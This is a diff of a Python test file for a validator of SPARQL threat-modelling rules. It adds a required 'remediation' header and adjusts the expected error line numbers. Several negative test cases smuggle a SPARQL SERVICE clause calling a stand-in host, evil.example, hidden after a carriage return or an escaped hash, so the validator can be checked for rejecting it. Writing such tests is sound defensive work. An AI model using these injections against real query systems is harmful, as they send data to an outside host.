@@ -25,6 +25,7 @@ GOOD = """# id: ACME-STRIDE-T-001
 # focus: element
 # source: ACME internal guideline 7
 # explanation: {focus} is a vector index; anyone who can write to it can plant retrieval content.
+# remediation: Sign indexed content and verify it on write.
 SELECT ?focus WHERE {
   ?focus a tgml:VectorStore .
 }
@@ -85,15 +86,17 @@ def test_two_user_directories(tmp_path: Path) -> None:
 
 BAD: list[tuple[str, str, int, str]] = [
     ("severity", GOOD.replace("# severity: high", "# severity: urgent"), 5, "severity 'urgent'"),
-    ("unknown-term", GOOD.replace("tgml:VectorStore", "tgml:VectorStor"), 10, "tgml:VectorStor is not defined"),
-    ("syntax", GOOD.replace("?focus a tgml:VectorStore .", "?focus a ."), 10, "invalid SPARQL"),
-    ("no-focus", GOOD.replace("SELECT ?focus WHERE {\n  ?focus", "SELECT ?x WHERE {\n  ?x"), 9, "must project ?focus"),
-    ("construct", GOOD.replace("SELECT ?focus WHERE", "CONSTRUCT { ?focus a tg:Finding } WHERE"), 9, "SELECT"),
+    ("unknown-term", GOOD.replace("tgml:VectorStore", "tgml:VectorStor"), 11, "tgml:VectorStor is not defined"),
+    ("syntax", GOOD.replace("?focus a tgml:VectorStore .", "?focus a ."), 11, "invalid SPARQL"),
+    ("no-focus", GOOD.replace("SELECT ?focus WHERE {\n  ?focus", "SELECT ?x WHERE {\n  ?x"), 10, "must project ?focus"),
+    ("construct", GOOD.replace("SELECT ?focus WHERE", "CONSTRUCT { ?focus a tg:Finding } WHERE"), 10, "SELECT"),
     ("placeholder", GOOD.replace("{focus} is", "{focus} or {zone} is"), 8, "{zone}"),
-    ("service", GOOD.replace("  ?focus a tgml:VectorStore .", "  ?focus a tgml:VectorStore .\n  SERVICE <http://evil.example/sparql> { ?focus ?p ?o }"), 11, "SERVICE"),
-    ("service-after-cr", GOOD.replace("  ?focus a tgml:VectorStore .", "  ?focus a tgml:VectorStore . # note\r  SERVICE <http://evil.example/sparql> { ?focus ?p ?o }"), 11, "SERVICE"),
-    ("service-after-escaped-hash", GOOD.replace("  ?focus a tgml:VectorStore .", "  ?focus a tgml:VectorStore . ?focus rdfs:label\\#y ?z SERVICE <http://evil.example/sparql> { ?focus ?p ?o }"), 10, "SERVICE"),
+    ("service", GOOD.replace("  ?focus a tgml:VectorStore .", "  ?focus a tgml:VectorStore .\n  SERVICE <http://evil.example/sparql> { ?focus ?p ?o }"), 12, "SERVICE"),
+    ("service-after-cr", GOOD.replace("  ?focus a tgml:VectorStore .", "  ?focus a tgml:VectorStore . # note\r  SERVICE <http://evil.example/sparql> { ?focus ?p ?o }"), 12, "SERVICE"),
+    ("service-after-escaped-hash", GOOD.replace("  ?focus a tgml:VectorStore .", "  ?focus a tgml:VectorStore . ?focus rdfs:label\\#y ?z SERVICE <http://evil.example/sparql> { ?focus ?p ?o }"), 11, "SERVICE"),
     ("missing-key", GOOD.replace("# source: ACME internal guideline 7\n", ""), 1, "header lacks source"),
+    ("no-remediation", GOOD.replace("# remediation: Sign indexed content and verify it on write.\n", ""), 1,
+     "header lacks remediation"),
     ("unknown-key", GOOD.replace("# source:", "# owner: me\n# source:"), 7, "unknown header key"),
     ("category", GOOD.replace("stride:Tampering", "stride:Tamper"), 4, "not a STRIDE or LINDDUN category"),
     ("builtin-id", GOOD.replace("ACME-STRIDE-T-001", BUILTIN[0].id), 1, f"also used by {BUILTIN[0].path}"),
